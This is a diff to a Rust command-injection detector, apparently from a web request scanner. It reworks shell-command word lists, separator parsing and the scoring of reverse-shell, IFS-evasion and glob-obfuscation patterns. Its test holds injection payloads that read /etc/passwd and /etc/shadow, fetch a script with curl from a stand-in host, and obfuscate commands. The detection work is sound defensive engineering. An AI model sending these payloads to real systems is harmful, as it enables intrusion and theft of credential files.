@@ -11,27 +11,202 @@ use crate::verdict::Class;
 
 /// Commands that are rarely English words.
 const TIER_A: &[&str] = &[
-    "whoami", "uname", "ifconfig", "ipconfig", "wget", "curl", "nc", "ncat", "netcat", "bash", "sh", "zsh",
-    "ksh", "csh", "tcsh", "dash", "powershell", "pwsh", "cmd", "systeminfo", "nslookup", "ping", "telnet",
-    "chmod", "chown", "passwd", "python", "python2", "python3", "perl", "ruby", "php", "lua", "nmap", "tftp",
-    "base64", "xxd", "awk", "gawk", "sed", "busybox", "useradd", "usermod", "crontab", "nohup", "printenv",
-    "id", "ls", "cat", "rm", "mkfifo", "netstat", "ps", "sudo", "su", "tcpdump", "socat", "xterm", "certutil",
-    "bitsadmin", "wmic", "rundll32", "regsvr32", "mshta", "cscript", "wscript", "tasklist", "taskkill",
-    "nbtstat", "whois", "traceroute", "tracert", "grep", "egrep", "fgrep", "xargs", "tac", "nl", "od",
-    "hexdump", "strings", "vi", "vim", "gcc", "killall", "pkill", "reboot", "shutdown", "mknod", "scp",
-    "ssh", "rsync", "ftp", "sftp", "lwp-download", "lwp-request", "aria2c", "openssl", "unzip", "gzip",
-    "gunzip", "bzip2", "dmesg", "lsof", "getent", "hostname", "uptime", "chattr", "strace", "ltrace",
-    "findstr", "icacls", "cacls", "schtasks", "wevtutil", "net", "dig", "sleep", "whoami.exe", "env",
-    "uname", "pwd", "echo", "printf", "jrunscript", "node", "lsb_release", "arp",
+    "whoami",
+    "uname",
+    "ifconfig",
+    "ipconfig",
+    "wget",
+    "curl",
+    "nc",
+    "ncat",
+    "netcat",
+    "bash",
+    "sh",
+    "zsh",
+    "ksh",
+    "csh",
+    "tcsh",
+    "dash",
+    "powershell",
+    "pwsh",
+    "cmd",
+    "systeminfo",
+    "nslookup",
+    "ping",
+    "telnet",
+    "chmod",
+    "chown",
+    "passwd",
+    "python",
+    "python2",
+    "python3",
+    "perl",
+    "ruby",
+    "php",
+    "lua",
+    "nmap",
+    "tftp",
+    "base64",
+    "xxd",
+    "awk",
+    "gawk",
+    "sed",
+    "busybox",
+    "useradd",
+    "usermod",
+    "crontab",
+    "nohup",
+    "printenv",
+    "id",
+    "ls",
+    "cat",
+    "rm",
+    "mkfifo",
+    "netstat",
+    "ps",
+    "sudo",
+    "su",
+    "tcpdump",
+    "socat",
+    "xterm",
+    "certutil",
+    "bitsadmin",
+    "wmic",
+    "rundll32",
+    "regsvr32",
+    "mshta",
+    "cscript",
+    "wscript",
+    "tasklist",
+    "taskkill",
+    "nbtstat",
+    "whois",
+    "traceroute",
+    "tracert",
+    "grep",
+    "egrep",
+    "fgrep",
+    "xargs",
+    "tac",
+    "nl",
+    "od",
+    "hexdump",
+    "strings",
+    "vi",
+    "vim",
+    "gcc",
+    "killall",
+    "pkill",
+    "reboot",
+    "shutdown",
+    "mknod",
+    "scp",
+    "ssh",
+    "rsync",
+    "ftp",
+    "sftp",
+    "lwp-download",
+    "lwp-request",
+    "aria2c",
+    "openssl",
+    "unzip",
+    "gzip",
+    "gunzip",
+    "bzip2",
+    "dmesg",
+    "lsof",
+    "getent",
+    "hostname",
+    "uptime",
+    "chattr",
+    "strace",
+    "ltrace",
+    "findstr",
+    "icacls",
+    "cacls",
+    "schtasks",
+    "wevtutil",
+    "net",
+    "dig",
+    "sleep",
+    "whoami.exe",
+    "env",
+    "uname",
+    "pwd",
+    "echo",
+    "printf",
+    "jrunscript",
+    "node",
+    "lsb_release",
+    "arp",
 ];
 
 /// Commands that are also common words; need argument evidence.
 const TIER_B: &[&str] = &[
-    "find", "head", "tail", "more", "less", "last", "who", "w", "time", "set", "export", "type", "dir",
-    "copy", "move", "del", "ren", "ver", "vol", "sort", "cut", "date", "test", "tar", "make", "host",
-    "route", "kill", "source", "alias", "eval", "exec", "tee", "cp", "mv", "ln", "cd", "ed", "df", "du",
-    "free", "top", "file", "stat", "touch", "which", "whereis", "locate", "diff", "wc", "tr", "uniq",
-    "expr", "dd", "mount", "ssh-keygen", "zip", "java", "unset", "reg", "sc", "at", "start", "call",
+    "find",
+    "head",
+    "tail",
+    "more",
+    "less",
+    "last",
+    "who",
+    "w",
+    "time",
+    "set",
+    "export",
+    "type",
+    "dir",
+    "copy",
+    "move",
+    "del",
+    "ren",
+    "ver",
+    "vol",
+    "sort",
+    "cut",
+    "date",
+    "test",
+    "tar",
+    "make",
+    "host",
+    "route",
+    "kill",
+    "source",
+    "alias",
+    "eval",
+    "exec",
+    "tee",
+    "cp",
+    "mv",
+    "ln",
+    "cd",
+    "ed",
+    "df",
+    "du",
+    "free",
+    "top",
+    "file",
+    "stat",
+    "touch",
+    "which",
+    "whereis",
+    "locate",
+    "diff",
+    "wc",
+    "tr",
+    "uniq",
+    "expr",
+    "dd",
+    "mount",
+    "ssh-keygen",
+    "zip",
+    "java",
+    "unset",
+    "reg",
+    "sc",
+    "at",
+    "start",
+    "call",
 ];
 
 fn lookup(word: &[u8]) -> Option<bool> {
@@ -55,9 +230,18 @@ pub(crate) fn unquote(s: &[u8]) -> Vec<u8> {
     while i < s.len() {
         let b = s[i];
         match b {
-            b'\\' if s.get(i + 1).is_some_and(|c| c.is_ascii_alphanumeric() || *c == b'/') => i += 1,
-            b'\'' | b'"' if out.last().is_some_and(|c: &u8| c.is_ascii_alphanumeric())
-                && s.get(i + 1).is_some_and(|c| c.is_ascii_alphanumeric() || *c == b'\'' || *c == b'"') =>
+            b'\\'
+                if s.get(i + 1)
+                    .is_some_and(|c| c.is_ascii_alphanumeric() || *c == b'/')
+                    && out.last().is_some_and(|c: &u8| c.is_ascii_alphanumeric()) =>
+            {
+                i += 1
+            }
+            b'\'' | b'"'
+                if out.last().is_some_and(|c: &u8| c.is_ascii_alphanumeric())
+                    && s.get(i + 1).is_some_and(|c| {
+                        c.is_ascii_alphanumeric() || *c == b'\'' || *c == b'"'
+                    }) =>
             {
                 i += 1
             }
@@ -83,7 +267,10 @@ pub(crate) fn unquote(s: &[u8]) -> Vec<u8> {
             }
             b'{' => {
                 // brace expansion {cmd,arg}: only when no spaces inside
-                let end = s[i + 1..].iter().take(256).position(|&c| c == b'}' || c == b' ');
+                let end = s[i + 1..]
+                    .iter()
+                    .take(256)
+                    .position(|&c| c == b'}' || c == b' ');
                 match end {
                     Some(e) if s[i + 1 + e] == b'}' && s[i + 1..i + 1 + e].contains(&b',') => {
                         out.push(b' ');
@@ -111,8 +298,11 @@ pub(crate) fn unquote(s: &[u8]) -> Vec<u8> {
 #[derive(Clone, Copy, PartialEq, Eq)]
 enum Sep {
     Start,
+    /// `;` `&&` `||` newline
     Strong,
-    Pipe,
+    /// `|` `&` `(` `{`
+    Weak,
+    /// backtick, `$(`
     Subst,
 }
 
@@ -124,13 +314,13 @@ fn strip_path(word: &[u8]) -> &[u8] {
     }
 }
 
-fn looks_like_arg(a: &[u8]) -> bool {
+/// 3: a path, drive, variable or URL; 1: a flag or number; 0: anything else.
+fn arg_strength(a: &[u8]) -> u32 {
     if a.is_empty() {
-        return false;
+        return 0;
     }
     let lower = a.to_ascii_lowercase();
-    a[0] == b'-'
-        || a[0] == b'/'
+    let strong = a[0] == b'/'
         || a[0] == b'~'
         || a[0] == b'$'
         || a[0] == b'>'
@@ -143,38 +333,113 @@ fn looks_like_arg(a: &[u8]) -> bool {
         || lower.starts_with(b"https:")
         || lower.starts_with(b"ftp:")
         || (a.iter().filter(|&&b| b == b'.').count() == 3 && a[0].is_ascii_digit())
-        || (a.len() >= 2 && a[0] == b'%' && a[1].is_ascii_alphabetic())
+        || (a.len() >= 3 && a[0] == b'%' && a[1].is_ascii_alphabetic() && a[1..].contains(&b'%'));
+    if strong {
+        3
+    } else if a[0] == b'-' || a.iter().all(u8::is_ascii_digit) {
+        1
+    } else {
+        0
+    }
 }
 
 /// Scores `s` for command injection.
 pub(crate) fn scan(s: &[u8], field: Field, hits: &mut Hits) {
-    let u = unquote(s);
     let mut best = (0u32, "cmdi");
-    let mut bump = |w: u32, id: &'static str| {
-        if w > best.0 {
-            best = (w, id);
+    {
+        let mut bump = |w: u32, id: &'static str| {
+            if w > best.0 {
+                best = (w, id);
+            }
+        };
+        scan_view(&unquote(s), s, field, &mut bump);
+        if memchr::memmem::find(s, b"\\n").is_some() || memchr::memmem::find(s, b"\\r").is_some() {
+            // payload lists write newlines as the two characters `\n`
+            let lf: Vec<u8> = s
+                .iter()
+                .enumerate()
+                .map(|(i, &b)| {
+                    if b == b'\\' && matches!(s.get(i + 1), Some(b'n' | b'r')) {
+                        b'\n'
+                    } else {
+                        b
+                    }
+                })
+                .collect();
+            let lf: Vec<u8> = lf
+                .iter()
+                .enumerate()
+                .filter(|&(i, &b)| {
+                    !(i > 0
+                        && lf[i - 1] == b'\n'
+                        && matches!(b, b'n' | b'r')
+                        && s.get(i - 1) == Some(&b'\\'))
+                })
+                .map(|(_, &b)| b)
+                .collect();
+            scan_view(&unquote(&lf), s, field, &mut bump);
         }
-    };
-    if u.len() != s.len() && (contains(s, b"${ifs") || contains(s, b"$ifs") || contains(s, b"${IFS") || contains(s, b"$IFS")) {
+        batch(s, &mut bump);
+    }
+    if best.0 > 0 {
+        hits.add(Class::Cmdi, best.1, best.0);
+    }
+}
+
+/// Windows batch control flow: `for /f ... in (...) do`, `if %errorlevel%`.
+fn batch(s: &[u8], bump: &mut impl FnMut(u32, &'static str)) {
+    let l = s.to_ascii_lowercase();
+    let has = |n: &[u8]| memchr::memmem::find(&l, n);
+    if let (Some(f), Some(i), Some(d)) = (has(b"for "), has(b" in ("), has(b") do ")) {
+        if f < i && i < d {
+            bump(6, "cmdi-batch");
+        }
+    }
+    if has(b"%errorlevel%").is_some()
+        || has(b"%comspec%").is_some()
+        || has(b"%systemroot%").is_some()
+    {
+        bump(5, "cmdi-batch");
+    }
+}
+
+fn scan_view(u: &[u8], s: &[u8], field: Field, bump: &mut impl FnMut(u32, &'static str)) {
+    if u.len() != s.len()
+        && (contains(s, b"${ifs")
+            || contains(s, b"$ifs")
+            || contains(s, b"${IFS")
+            || contains(s, b"$IFS"))
+    {
         bump(6, "cmdi-evasion");
     }
-    if contains(&u, b"/dev/tcp/") || contains(&u, b"/dev/udp/") {
+    if contains(u, b"/dev/tcp/") || contains(u, b"/dev/udp/") {
         bump(8, "cmdi-reverse-shell");
     }
-    glob_path(&u, &mut bump);
+    glob_path(u, bump);
     let mut i = 0;
     let mut sep = Sep::Start;
+    let mut adjacent = false;
     while i <= u.len() {
-        // find next segment start
         let seg_start = i;
         let mut j = i;
         let mut next_sep = Sep::Strong;
         while j < u.len() {
             match u[j] {
                 b';' | b'\n' | b'\r' => break,
-                b'&' => break,
+                b'&' => {
+                    next_sep = if u.get(j + 1) == Some(&b'&') {
+                        Sep::Strong
+                    } else {
+                        Sep::Weak
+                    };
+                    break;
+                }
                 b'|' => {
-                    next_sep = if u.get(j + 1) == Some(&b'|') { Sep::Strong } else { Sep::Pipe };
+                    next_sep = if u.get(j + 1) == Some(&b'|') {
+                        Sep::Strong
+                    } else {
+                        Sep::Weak
+                    };
                     break;
                 }
                 b'`' => {
@@ -185,30 +450,32 @@ pub(crate) fn scan(s: &[u8], field: Field, hits: &mut Hits) {
                     next_sep = Sep::Subst;
                     break;
                 }
-                b'(' | b'{' if field != Field::UserAgent => {
-                    next_sep = Sep::Pipe;
+                b'(' if field != Field::UserAgent => {
+                    next_sep = Sep::Weak;
                     break;
                 }
                 _ => j += 1,
             }
         }
-        segment(&u[seg_start..j], sep, field, &mut bump);
+        segment(&u[seg_start..j], sep, adjacent, field, bump);
         if j >= u.len() {
             break;
         }
-        // skip the separator run
         let mut k = j;
-        while k < u.len() && matches!(u[k], b';' | b'\n' | b'\r' | b'&' | b'|' | b'`' | b'$' | b'(' | b'{') {
+        while k < u.len()
+            && matches!(
+                u[k],
+                b';' | b'\n' | b'\r' | b'&' | b'|' | b'`' | b'$' | b'(' | b'{'
+            )
+        {
             if u[k] == b'$' && u.get(k + 1) != Some(&b'(') {
                 break;
             }
             k += 1;
         }
+        adjacent = u.get(k).is_some_and(|b| !b.is_ascii_whitespace());
         sep = next_sep;
         i = k.max(j + 1);
-    }
-    if best.0 > 0 {
-        hits.add(Class::Cmdi, best.1, best.0);
     }
 }
 
@@ -216,79 +483,66 @@ fn contains(h: &[u8], n: &[u8]) -> bool {
     memchr::memmem::find(h, n).is_some()
 }
 
-fn segment(seg: &[u8], sep: Sep, field: Field, bump: &mut impl FnMut(u32, &'static str)) {
-    let mut words = seg.split(|&b| b == b' ' || b == b'\t' || b == b'<' || b == 0x0b).filter(|w| !w.is_empty());
-    let Some(mut first) = words.next() else { return };
-    // skip leading env assignments and `!`
+fn segment(
+    seg: &[u8],
+    sep: Sep,
+    adjacent: bool,
+    field: Field,
+    bump: &mut impl FnMut(u32, &'static str),
+) {
+    let mut words = seg
+        .split(|&b| b == b' ' || b == b'\t' || b == b'<' || b == 0x0b)
+        .filter(|w| !w.is_empty());
+    let Some(mut first) = words.next() else {
+        return;
+    };
     let mut guard = 0;
-    while (first.contains(&b'=') && !first.starts_with(b"=")) || first == b"!" {
+    while (first.contains(&b'=') && !first.starts_with(b"=")) || first == b"!" || first == b"@" {
         guard += 1;
         match words.next() {
             Some(w) if guard < 4 => first = w,
             _ => return,
         }
     }
-    let first_trim = first.strip_prefix(b"(").unwrap_or(first);
-    let cmd = strip_path(first_trim);
+    let trimmed = first.strip_prefix(b"@").unwrap_or(first);
+    let trimmed: &[u8] = {
+        let st = trimmed
+            .iter()
+            .position(|b| !matches!(b, b'(' | b'\'' | b'"'))
+            .unwrap_or(trimmed.len());
+        let en = trimmed
+            .iter()
+            .rposition(|b| !matches!(b, b')' | b'\'' | b'"' | b';' | b','))
+            .map_or(st, |p| p + 1);
+        &trimmed[st..en.max(st)]
+    };
+    let cmd = strip_path(trimmed);
     let Some(tier_a) = lookup(cmd) else { return };
-    let had_path = cmd.len() != first_trim.len() && first_trim.starts_with(b"/");
+    let had_path = cmd.len() != trimmed.len()
+        && (trimmed.starts_with(b"/") || trimmed.len() > 2 && trimmed[1] == b':');
     let arg = words.next();
-    let has_arg = arg.is_some_and(looks_like_arg);
-    let end = arg.is_none() || arg.is_some_and(|a| a.starts_with(b"#") || a.starts_with(b"`") || a == b")");
-    let w = match (sep, tier_a) {
-        (Sep::Subst, _) => {
-            if tier_a || has_arg || end {
-                8
-            } else {
-                4
-            }
-        }
-        (Sep::Strong, true) => {
-            if has_arg || end || had_path {
-                7
-            } else {
-                4
-            }
-        }
-        (Sep::Pipe, true) => {
-            if has_arg || end || had_path {
-                6
-            } else {
-                3
-            }
-        }
-        (Sep::Strong, false) => {
-            if has_arg || had_path {
-                5
-            } else if end {
-                3
-            } else {
-                1
-            }
-        }
-        (Sep::Pipe, false) => {
-            if has_arg || had_path {
-                4
-            } else {
-                1
-            }
-        }
-        (Sep::Start, true) => {
-            if field == Field::UserAgent {
+    let end = arg.is_none()
+        || arg.is_some_and(|a| a.starts_with(b"#") || a.starts_with(b"`") || a == b")");
+    let arg_w = if had_path {
+        3
+    } else {
+        arg.map_or(if end { 1 } else { 0 }, arg_strength)
+            .max(if end { 1 } else { 0 })
+    };
+    let tier_w = if tier_a { 3 } else { 1 };
+    let w = match sep {
+        Sep::Subst => 3 + tier_w + arg_w.max(1),
+        Sep::Strong => 2 + tier_w + arg_w + u32::from(adjacent),
+        Sep::Weak => 1 + tier_w + arg_w + u32::from(adjacent),
+        Sep::Start => {
+            if field == Field::UserAgent || arg_w == 0 || (field == Field::Path && !had_path) {
                 0
-            } else if had_path {
-                6
-            } else if has_arg {
-                5
             } else {
-                0
-            }
-        }
-        (Sep::Start, false) => {
-            if had_path && field != Field::Path {
-                5
-            } else {
-                0
+                match (tier_a, arg_w) {
+                    (_, 3) => 5,
+                    (true, _) => 4,
+                    (false, _) => 2,
+                }
             }
         }
     };
@@ -307,11 +561,16 @@ fn glob_path(s: &[u8], bump: &mut impl FnMut(u32, &'static str)) {
         }
         segs += 1;
         let g = part.iter().filter(|&&b| b == b'?' || b == b'*').count();
-        if g > 0 && g * 2 >= part.len() && part.iter().all(|b| b.is_ascii_alphanumeric() || *b == b'?' || *b == b'*') {
+        if g > 0
+            && g * 2 >= part.len()
+            && part
+                .iter()
+                .all(|b| b.is_ascii_alphanumeric() || *b == b'?' || *b == b'*')
+        {
             globby += 1;
         }
     }
-    if globby >= 2 && segs >= 2 {
+    if globby >= 2 && segs >= 2 && s.contains(&b'?') {
         bump(7, "cmdi-glob");
     }
 }
@@ -328,7 +587,16 @@ mod tests {
 
     #[test]
     fn cmdi_payloads_score_high() {
-        for p in [";cat /etc/passwd", "| id", "`whoami`", "$(curl http://x/y.sh)", "a;c'a't /etc/shadow", "x&&ping -c 3 127.0.0.1", "/???/??t /???/p??s??", ";cat${IFS}/etc/passwd"] {
+        for p in [
+            ";cat /etc/passwd",
+            "| id",
+            "`whoami`",
+            "$(curl http://x/y.sh)",
+            "a;c'a't /etc/shadow",
+            "x&&ping -c 3 127.0.0.1",
+            "/???/??t /???/p??s??",
+            ";cat${IFS}/etc/passwd",
+        ] {
             assert!(s(p) >= 5, "{p} scored {}", s(p));
         }
     }
